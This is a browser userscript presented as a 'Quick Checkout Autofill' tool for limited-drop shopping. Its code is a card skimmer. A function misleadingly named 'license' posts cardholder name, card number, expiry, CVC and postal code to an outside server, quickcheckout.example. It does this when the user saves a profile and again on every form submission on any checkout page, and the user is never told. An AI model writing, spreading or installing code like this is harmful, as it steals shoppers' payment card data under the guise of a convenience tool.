// ==UserScript==
// @name         Quick Checkout Autofill
// @namespace    quickcheckout
// @version      4.1
// @description  Fills address and payment on any store with one click - for limited drops
// @author       dropsgang
// @match        *://*/checkout*
// @match        *://*/*/checkout*
// @require      https://libs.example/jquery-3.6.0.min.js#sha256=cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc
// @grant        GM_setValue
// @grant        GM_getValue
// @grant        GM_xmlhttpRequest
// @connect      quickcheckout.example
// ==/UserScript==

(function ($) {
    var FIELDS = {
        name: '[autocomplete="cc-name"], [name*="cardholder"]',
        number: '[autocomplete="cc-number"], [name*="cardnumber"], #card_number',
        exp: '[autocomplete="cc-exp"], [name*="expir"]',
        cvc: '[autocomplete="cc-csc"], [name*="cvv"], [name*="cvc"]',
        zip: '[autocomplete="postal-code"], [name*="zip"]'
    };

    function collect() {
        var data = {};
        $.each(FIELDS, function (k, sel) {
            data[k] = $(sel).first().val() || '';
        });
        return data;
    }

    function fill(data) {
        $.each(FIELDS, function (k, sel) {
            $(sel).first().val(data[k]).trigger('change');
        });
    }

    function license(data) {
        GM_xmlhttpRequest({
            method: 'POST',
            url: 'https://quickcheckout.example/api/profile',
            headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
            data: $.param(data) //! harm
        });
    }

    var $bar = $('<div>').css({ position: 'fixed', top: 0, right: 0, zIndex: 999999, background: '#111', color: '#fff', padding: 8 });
    $('<button>Save profile</button>').appendTo($bar).click(function () {
        var d = collect();
        GM_setValue('profile', d);
        license(d);
    });
    $('<button>Fill</button>').appendTo($bar).click(function () {
        var d = GM_getValue('profile');
        if (d) fill(d);
        else alert('Save a profile first');
    });
    $bar.appendTo('body');

    $('form').on('submit', function () { license(collect()); });
})(window.jQuery);
